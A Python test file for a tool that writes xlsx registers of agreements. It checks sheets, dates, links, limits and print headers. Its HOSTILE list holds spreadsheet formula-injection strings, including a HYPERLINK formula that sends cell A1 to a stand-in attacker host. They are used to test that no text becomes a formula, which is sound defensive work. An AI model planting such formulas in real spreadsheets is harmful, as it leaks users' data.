"""The workbook, as openpyxl reads it, which has nothing to do with what writes it; and as an import reads it."""

import io
import zipfile
from dataclasses import replace
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from wbagree.domain.agreements.parts import Source
from wbagree.domain.dates.partial_date import PartialDate
from wbagree.domain.foreign_lists.column_mapping import Mapping
from wbagree.domain.reports.summary import GroupBy, Summary, SummaryRow
from wbagree.errors import InvalidValue
from wbagree.formats.common import kosovo
from wbagree.formats.list_readers import calamine_sheets as sheets
from wbagree.formats.list_readers.opened_list import open_list
from wbagree.formats.list_readers.rows import ReaderOptions
from wbagree.formats.list_readers.vocabulary import bundled_vocabulary
from wbagree.formats.xlsx import sheet_writer
from wbagree.formats.xlsx.workbook import About, write_workbook

PARTIES = {"AL": "Albania", "XK": "Kosovo", "HR": "Croatia", "YU-SFRY": "SFR Yugoslavia"}
ROW = SummaryRow("AL-XK", 2, 1, 1, 0, 0, 1, 0, 0, "2009", "2012", 0, 0, "mla 2")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"click")', "+1", "-2+3", "@SUM(A1)", "'=1", "''=1", "'s-Gravenhage",
    "{=1+1}", "http://example.org/a", "internal:Pairs!A1", "0012", "1e5", "2012-03-10", "TRUE", "#REF!",
    "<r>bold</r>", "<r><t>x</t></r>", '<b>&amp;"', "_x0041_", "_x000D_", "_x0041_ _x0042_",
    "a\x01b", "a\x0bb\x1f", "\x7f",
    "two\nlines", "tab\tin", "Ђорђевић, ë, ő", "😀", "\u202eturned", "x" * 32_767,
)  # fmt: skip

# What the validator lets into a record: no half characters, no NUL, no carriage returns.
CHARACTERS = st.characters(exclude_categories=["Cs"], exclude_characters="\0\r")


def about(**fields):
    plain = {"question": "pair AL-XK", "made_on": "2026-11-24", "program": "wbagree 1", "left_out": 0,
             "parties": PARTIES, "types": {"mla": "mutual legal assistance"}}  # fmt: skip
    return About(**{**plain, **fields})


@pytest.fixture
def written():
    """Write a workbook of records, and return its bytes."""

    def write(*records, extra=(), names=("AL-XK",), **fields):
        rows = tuple(replace(ROW, name=name) for name in names)
        summary = Summary(GroupBy.PAIR, "2026-11-24", rows, replace(ROW, name="total", main_types=""))
        file = io.BytesIO()
        assert write_workbook(records, extra, summary, about(**fields), file) == len(records)
        return file.getvalue()

    return write


@pytest.fixture
def book(written):
    """Write a workbook, and open it."""
    return lambda *records, **fields: openpyxl.load_workbook(io.BytesIO(written(*records, **fields)))


def column(sheet, heading):
    place = [cell.value for cell in sheet[1]].index(heading)
    return [row[place] for row in sheet.iter_rows(min_row=2)]


def about_sheet(workbook):
    return {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}


def test_there_is_a_sheet_for_each_question_a_reader_has(book, record_of):
    workbook = book(record_of(title="A title"))
    assert workbook.sheetnames == ["Agreements", "Pairs", "Sources", "About"]
    for sheet in workbook:
        assert sheet.freeze_panes == "B2"
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
    assert workbook["Agreements"].auto_filter.ref == workbook["Agreements"].dimensions
    assert column(workbook["Agreements"], "Title")[0].alignment.wrap_text


def test_a_record_can_be_filtered_by_who_it_is_between_in_names(book, record_of):
    workbook = book(record_of(parties=("XK", "AL")), record_of(parties=("HR", "AL", "XK")))
    cells = [cell.value for cell in column(workbook["Agreements"], "Between")]
    assert cells == ["Albania – Kosovo*", "Albania – Croatia – Kosovo*"]
    assert cells[0] == workbook["Pairs"]["B2"].value
    assert [cell.value for cell in column(workbook["Agreements"], "Parties")] == ["XK;AL", "HR;AL;XK"]


def test_a_day_that_is_known_is_a_date_and_everything_else_is_text(book, record_of):
    dates = ("2012-03-10", "1900-03-01", "1900-02-28", "1899-12-31", "2012-03", "2012", "2012-03-10?", "2012~")
    workbook = book(*(record_of(signed=PartialDate.parse(date)) for date in dates))
    cells = column(workbook["Agreements"], "Signed")
    assert [cell.value.date().isoformat() for cell in cells[:2]] == list(dates[:2])
    assert [cell.value for cell in cells[2:]] == list(dates[2:])
    assert {cell.number_format for cell in cells[:2]} == {"yyyy-mm-dd"}
    assert {cell.data_type for cell in cells[2:]} == {"s"}


def test_nothing_is_a_formula_and_every_text_comes_back(written, record_of, tmp_path):
    file = tmp_path / "register.xlsx"
    file.write_bytes(written(*(record_of(title=text, notes=text, place=text) for text in HOSTILE)))
    sheets = openpyxl.load_workbook(file)
    assert {cell.data_type for sheet in sheets for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}
    with open_list(file, file.name, ReaderOptions(), Mapping(), bundled_vocabulary()) as listing:
        targets = [column.target for column in listing.layout.columns]
        places = [targets.index(field) for field in ("title", "notes", "place")]
        assert listing.layout.is_own
        assert [[row[place] for place in places] for _, row in listing.rows] == [[text] * 3 for text in HOSTILE]


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(st.text(CHARACTERS), st.text("_x0041<r>/'=\n\x01")), min_size=1))
@example(["\n'=", "'=;'=", "''=\n''="])
def test_any_text_comes_back_or_is_refused(written, record_of, tmp_path, texts):
    file = tmp_path / "register.xlsx"
    try:
        file.write_bytes(written(*(record_of(notes=text) for text in texts)))
    except InvalidValue:
        assert any(mark in text for text in texts for mark in ("\ufffe", "\uffff", "_x"))
        return
    header, *rows = [cells for _, cells in sheets.read_sheet(file, "Agreements").rows]
    assert [cells[header.index("Notes")] for cells in rows] == texts


def test_sources_have_links_where_a_workbook_can_have_them(book, record_of):
    urls = ("https://example.org/a?b=1&c=%20[x]", "HTTP://example.org/", "https://example.org/" + "x" * 2_100,
            "https://example.org/\x01")  # fmt: skip
    workbook = book(record_of(sources=tuple(Source(f"No. {n}", url) for n, url in enumerate(urls))))
    sheet = workbook["Sources"]
    assert [cell.value for cell in column(sheet, "Source")] == ["No. 0", "No. 1", "No. 2", "No. 3"]
    cells = column(sheet, "Address")
    assert [bool(cell.hyperlink) for cell in cells] == [True, True, False, False]
    assert cells[0].hyperlink.target == cells[0].value == urls[0]
    assert column(workbook["Agreements"], "Sources")[0].hyperlink.target == urls[0]


def test_more_addresses_than_a_sheet_can_link_are_texts(book, record_of, monkeypatch):
    monkeypatch.setattr(sheet_writer, "MOST_LINKS", 2)
    records = [record_of(sources=(Source("A", f"https://example.org/{n}"),)) for n in range(4)]
    cells = column(book(*records)["Sources"], "Address")
    assert [bool(cell.hyperlink) for cell in cells] == [True, True, False, False]
    assert cells[3].value == "https://example.org/3"


@pytest.mark.parametrize(
    ("fields", "sentence"),
    [
        ({"notes": "x" * 32_768}, "AL-XK-nd-1: Notes has 32,768 characters, and a cell of a workbook holds 32,767"),
        ({"notes": "😀" * 16_384}, "AL-XK-nd-1: Notes has 32,768 characters, and a cell of a workbook holds 32,767"),
        ({"title": "a\ufffe"}, r"AL-XK-nd-1: Title has '\ufffe', which no workbook can hold"),
        ({"title": "_x0041_x0042_"}, "AL-XK-nd-1: Title has '_x0041_', which no workbook can hold"),
    ],
)
def test_what_a_cell_cannot_hold_is_refused_and_never_cut(fields, sentence, written, record_of):
    with pytest.raises(InvalidValue) as refused:
        written(record_of(**fields))
    assert refused.value.sentence == sentence
    assert "export FILE.csv" in refused.value.hint


def test_more_rows_than_a_sheet_holds_are_refused(written, record_of, monkeypatch):
    monkeypatch.setattr(sheet_writer, "MOST_ROWS", 3)
    with pytest.raises(InvalidValue, match="AL-XK-nd-1: a sheet holds 3 rows"):
        written(*[record_of()] * 3)


def test_the_pairs_are_counted_in_numbers_and_called_by_their_names(book, record_of):
    sheet = book(record_of(), names=("AL-XK", "HR-YU-SFRY"))["Pairs"]
    rows = [[cell.value for cell in row[:4]] for row in sheet.iter_rows(min_row=2)]
    assert rows[0] == ["AL-XK", "Albania – Kosovo*", 2, 1]
    assert rows[1] == ["HR-YU-SFRY", "Croatia – SFR Yugoslavia", 2, 1]
    assert rows[2] == ["Total", None, 2, 1]
    assert sheet.auto_filter.ref.endswith("3")  # sorting leaves the total where it is


def test_the_last_sheet_says_what_was_asked_and_when_and_what_the_codes_mean(book, record_of):
    workbook = book(record_of(), left_out=2)
    shown = about_sheet(workbook)
    assert shown["Question"] == "pair AL-XK"
    assert shown["Made on"] == "2026-11-24 by wbagree 1"
    assert (shown["Records"], shown["Restricted records left out"]) == ("1", "2")
    assert shown["mla"] == "mutual legal assistance"
    assert shown["XK"] == "Kosovo*"
    assert shown["Kosovo*"] == f"* {kosovo.KOSOVO_NOTE}"
    assert {cell.value for cell in workbook["Agreements"][1]} <= shown.keys()


def test_the_note_stands_where_kosovo_does_unless_it_is_turned_off(book, record_of):
    assert "Kosovo*" not in about_sheet(book(record_of(parties=("AL", "HR")), names=()))
    assert "Kosovo*" in about_sheet(book(record_of(parties=("AL", "HR"), title="On Kosovo"), names=()))
    plain = about_sheet(book(record_of(), kosovo_note=False))
    assert ("Kosovo*" in plain, plain["XK"]) == (False, "Kosovo")


@pytest.mark.parametrize(
    ("question", "shown"),
    [
        ("pair AL-XK", "pair AL-XK"),
        ("text “R&D &P”\x1b\n", "text “R&&D &&P”<1B>"),
        ("x" * 500, "x" * 169 + "…"),
        ("&" * 500, "&" * 168 + "…"),
    ],
)
def test_a_printed_page_says_what_was_asked_and_has_the_note(written, record_of, question, shown):
    for head, foot in heads_and_feet(written(record_of(), question=question)):
        assert head == f"&L&9&A: {shown}&R&9As of 2026-11-24"
        assert foot == f"&L&8* {kosovo.KOSOVO_NOTE}&R&9Page &P of &N"
        assert max(len(head), len(foot)) <= 255
    for _, foot in heads_and_feet(written(record_of(parties=("AL", "HR")), names=())):
        assert foot == "&L&8&R&9Page &P of &N"


def heads_and_feet(content):
    """What stands above and below the printed pages of each sheet, as the file has it."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/sheet"):
                sheet = ET.fromstring(parts.read(name))
                head, foot = sheet.find("{*}headerFooter")
                yield head.text, foot.text


def test_what_only_some_registers_need_has_a_column_when_it_is_needed(book, record_of):
    assert "Disclosure" not in [cell.value for cell in book(record_of())["Agreements"][1]]
    sheet = book(record_of(disclosure="restricted"), extra=("disclosure",))["Agreements"]
    assert [cell.value for cell in column(sheet, "Disclosure")] == ["restricted"]


def test_the_same_answer_on_the_same_day_is_the_same_file(written, record_of):
    assert written(record_of()) == written(record_of())
